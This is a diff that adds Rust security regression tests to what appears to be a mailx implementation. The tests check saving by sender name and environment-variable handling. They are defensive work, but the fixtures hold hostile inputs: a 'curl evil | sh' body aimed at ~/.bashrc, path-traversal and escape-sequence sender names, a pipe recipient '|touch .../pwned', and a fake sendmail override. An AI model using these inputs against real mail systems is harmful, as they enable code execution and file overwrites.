@@ -550,6 +550,68 @@ fn cve_2014_7844_reply_to_pipe_and_file_senders_with_expandaddr() {
     assert!(t.join("mine").exists(), "{}", describe(&o));
 }
 
+/// POSIX `Save`, `Copy` and `followup` name a file after the sender's login:
+/// a sender `.bashrc@evil` must not get their text appended to `~/.bashrc`
+/// (run at the next login), `.mailrc@evil` not to the rc file, `../x@evil`
+/// not outside the directory; control characters never reach the name.
+#[test]
+fn save_by_sender_never_writes_dot_files_or_leaves_the_directory() {
+    let t = TempDir::new("sec");
+    let m = msg("From: .bashrc@evil\nSubject: s", "curl evil | sh")
+        + &msg("From: .mailrc@evil\nSubject: s", "set sendmail=/tmp/evil")
+        + &msg("From: ..@evil\nSubject: s", "b")
+        + &msg("From: ../up@evil\nSubject: s", "b")
+        + &msg("From: \x1b[2Jclear@evil\nSubject: s", "b");
+    setup(&t, m.as_bytes(), "");
+    let o = run_read(
+        &t,
+        &["-f", "box"],
+        "Save 1\nCopy 2\nSave 3\nSave 4\nSave 5\nfollowup 1\nbody\n",
+        &[],
+    );
+    assert_absent(&t, &["home/.bashrc", "home/.mailrc", "up", "home/up/.."]);
+    assert!(t.join("home/bashrc").exists(), "{}", describe(&o));
+    assert!(t.join("home/mailrc").exists(), "{}", describe(&o));
+    assert!(t.join("home/up").exists(), "{}", describe(&o));
+    assert!(t.join("home/[2Jclear").exists(), "{}", describe(&o));
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(out.contains("No file specified."), "{out}");
+    assert!(!o.stdout.contains(&0x1b), "{out:?}");
+}
+
+/// Debian advisory 2000-08-10: variables are not imported from the
+/// environment (only a fixed list such as HOME, MAIL, SHELL, EDITOR is), so
+/// a caller's environment cannot switch on `expandaddr` or `record`, or
+/// replace `sendmail`.
+#[test]
+fn environment_does_not_set_mail_variables() {
+    let t = TempDir::new("sec");
+    setup(&t, b"", "");
+    let p = t.path().display().to_string();
+    let evil = format!("{p}/evil.sh");
+    std::fs::write(&evil, format!("#!/bin/sh\ntouch {p}/evil-ran\n")).unwrap();
+    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let mut c = Command::new(ours());
+    base_env(&mut c, &t, "C.UTF-8");
+    c.env("expandaddr", "")
+        .env("record", format!("{p}/rec"))
+        .env("sendmail", &evil)
+        .env("SENDMAIL", &evil)
+        .args(["-n", "-s", "S", &format!("|touch {p}/pwned"), "a@x"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = c.spawn().unwrap();
+    {
+        use std::io::Write;
+        child.stdin.take().unwrap().write_all(b"body\n").unwrap();
+    }
+    let o = child.wait_with_output().unwrap();
+    assert_absent(&t, &["pwned", "rec", "evil-ran"]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert!(t.join("out/argv").exists(), "the configured sendmail ran");
+}
+
 // ---------------------------------------------------------------------------
 // CVE-2017-5899 class: the dotlock path
 // ---------------------------------------------------------------------------
